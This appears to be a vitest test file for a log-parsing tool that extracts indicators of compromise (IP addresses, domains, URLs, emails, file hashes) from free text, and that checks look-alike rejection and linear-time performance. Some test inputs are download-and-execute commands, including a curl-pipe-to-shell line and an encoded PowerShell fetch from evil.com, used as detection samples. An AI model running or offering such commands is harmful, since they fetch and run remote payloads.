import { describe, expect, it } from 'vitest'
import { createCollector } from './collector.ts'
import { searchLog } from './typed.ts'

const MD5 = '9e107d9d372bb6826bd81d3542a419d6'
const SHA1 = '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12'
const SHA256 = 'd7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592'

function search(text: string): string[] {
  const found = createCollector(1000)
  searchLog(text, 'full_log', found)
  return found.take().observables.map(({ type, value }) => `${type} ${value}`)
}

describe('free text: found', () => {
  it.each<[string, string[]]>([
    ['Failed password for root from 9.9.9.9 port 22 ssh2', ['ipv4 9.9.9.9']],
    ['client 9.9.9.9#1036: query denied', ['ipv4 9.9.9.9']],
    ['SRC=9.9.9.9 DST=8.8.4.4 LEN=60', ['ipv4 9.9.9.9', 'ipv4 8.8.4.4']],
    ['Deny tcp src outside:9.9.9.9/443 dst inside:8.8.4.4/80', ['ipv4 9.9.9.9', 'ipv4 8.8.4.4']],
    ['denied tcp outside/9.9.9.9(1234) -> inside/8.8.4.4(80)', ['ipv4 9.9.9.9', 'ipv4 8.8.4.4']],
    ['Connection from [9.9.9.9]:4444.', ['ipv4 9.9.9.9']],
    ['from 9.9.9.9, closing.', ['ipv4 9.9.9.9']],
    ['peer 2606:4700:4700::1111 port 53', ['ipv6 2606:4700:4700::1111']],
    ['peer ::ffff:9.9.9.9 port 53', ['ipv4 9.9.9.9']],
    ['connect [2606:4700:4700::1111]:443', ['ipv6 2606:4700:4700::1111']],
    ['query: c2.evil-domain.com IN A', ['domain c2.evil-domain.com']],
    ['resolved WWW.EVIL-DOMAIN.COM.', ['domain www.evil-domain.com']],
    ['query: evil.co.uk', ['domain evil.co.uk']],
    ['host=sub.evil.ru; user=x', ['domain sub.evil.ru']],
    ['curl http://9.9.9.9:8080/a.sh | sh', ['url http://9.9.9.9:8080/a.sh', 'ipv4 9.9.9.9']],
    ['see (https://evil.com/a_(b)).', ['url https://evil.com/a_(b)', 'domain evil.com']],
    [
      '"GET /?u=http://evil.com/x.txt HTTP/1.1" 200 "-" "curl"',
      ['url http://evil.com/x.txt', 'domain evil.com'],
    ],
    ['GET /r?u=http%3A%2F%2Fevil.com%2Fx HTTP/1.1', ['url http://evil.com/x', 'domain evil.com']],
    ['hxxps://evil[.]com/login reported', ['url https://evil.com/login', 'domain evil.com']],
    [
      'powershell iwr https://evil.com/a.ps1 -OutFile C:\\\\a.ps1',
      ['url https://evil.com/a.ps1', 'domain evil.com'],
    ],
    ['from=<bad.guy@evil.com> to=<me@corp.org>', ['email bad.guy@evil.com', 'email me@corp.org']],
    ['sent to o+tag@evil.com ok', ['email o+tag@evil.com']],
    [`md5=${MD5} sha1: ${SHA1}`, [`md5 ${MD5}`, `sha1 ${SHA1}`]],
    [`SHA256=${SHA256.toUpperCase()},IMPHASH=${MD5.toUpperCase()}`, [`sha256 ${SHA256}`]],
    [`New md5sum is : '${MD5}'`, [`md5 ${MD5}`]],
    ['Host: shop.evil.id\\r\\nUser-Agent: x', ['domain shop.evil.id']],
    ['&quot;http://evil.com/a?x=1&amp;y=2&quot;', ['url http://evil.com/a?x=1&y=2', 'domain evil.com']],
    [
      `powershell -NoP -enc ${Buffer.from('iwr http://evil.com/a.exe', 'utf16le').toString('base64')}`,
      ['url http://evil.com/a.exe', 'domain evil.com'],
    ],
    ['besucht bücher.de heute', ['domain xn--bcher-kva.de']],
  ])('%s', (text, expected) => expect(search(text)).toEqual(expected))
})

describe('free text: look-alikes', () => {
  it.each([
    'Mozilla/5.0 (X11; rv:1.9.0.6) Gecko Chrome/88.0.43.1 Safari/1.2.3.4',
    'package 1.2.3.4 is no address: version 1.2.3.4, v1.2.3.4, Version: 1.2.3.4, FileVersion: 0.3.1.2',
    'Product: FTK Imager, 3.1.2.0, 1033, 0, AccessData',
    'oid 1.3.6.1 and Syntax (OID):\t2.5.5.12 and 1.3.6.1.4.1.4.1.2.21',
    'route 172.16.0.0/12 and 91.1.2.0/24',
    'at 12:03:44 on 2026-03-09T08:00:00.123+0000',
    'mac 00:0c:29:fa:f2:ab and serial 05:0E:8B:A0:21:C3:5F:77',
    'fingerprint 7b:a1:0c:5b:1e:6d:5b:9e:0c:27:0f:f5:4b:8c:98:0a:57:b5:c4:1e',
    'd8:d5:d7:d7:df:d6:: std::string a::b AWS::S3::Object [System.IO.File]::Exists :::80',
    `container 6f9cfd66b867e77bc6771fb5a78d2c357b7e163a1c24c2652e500a7a7acf7c5c started`,
    `request ${MD5} commit ${SHA1} imphash=${MD5} fingerprint: ${MD5}`,
    `-hashes ${MD5}:${MD5}`,
    'ran run.sh, a.py, server_handler.pl, readme.md, x.zip, setup.app and main.rs',
    'C:\\\\Windows\\\\Microsoft.NET\\\\Framework64\\\\csc.exe cmd.exe kernel32.dll',
    '/var/www/example.com/docroot and /usr/sbin/eicar.com',
    '[System.Net.WebClient] $obj.Name $user.email Get-Item.Id os.name i.id=o.id',
    'eventSource ec2.amazonaws.com via cloudaudit.googleapis.com',
    'done.It failed.To start. in.At the end.no',
    'http://XX.XX.XX.XX/favicon.ico xxx.xxx.xxx.xxx 183.106.179.x sanitized N/A -',
    'junos@2636.1.1.1.2.39 declare+@d+varchar root@localhost set@c',
    'block-social.media Web.Client log.threat-weight firewall.service.custom hip.registry',
    'http://web/ https://intranet/x',
  ])('%s', (text) => expect(search(text)).toEqual([]))

  // A quadratic search takes minutes for this: the time-out of the test is the check.
  it.each([
    'a.',
    '1.',
    ':',
    '::',
    'a@',
    '<a@b>',
    'x@y ',
    '<abc@',
    'a@b.',
    'http://',
    'http://a.',
    'http://a.b/',
    '[.]',
    '%3a%2f%2f',
    'a:b@',
    '.',
    '\\',
    '(',
    '&amp;',
    'sha1=',
    'md5 ',
    '0123456789abcdef',
    'f:',
    '::ffff:',
    ' -enc ',
    '-eAAAA',
    'v1.',
    '=',
    'hxxp[:]',
  ])('stays linear on 1 MiB of %j', (part) => {
    expect(search(part.repeat(Math.ceil(1_048_576 / part.length))).length).toBeLessThan(1001)
  })

  // 64,000 dots or hyphens after an `a@` took seconds: the end of the domain was looked for behind each.
  it.each([
    ['a@', '.', 'a'],
    ['a@', '-', 'a'],
    ['a@b', '.-', '_'],
  ])('stays linear on %j, 1 MiB of %j, and %j', (before, part, behind) => {
    expect(search(`${before}${part.repeat(1_048_576 / part.length)}${behind}`)).toEqual([])
  })
})
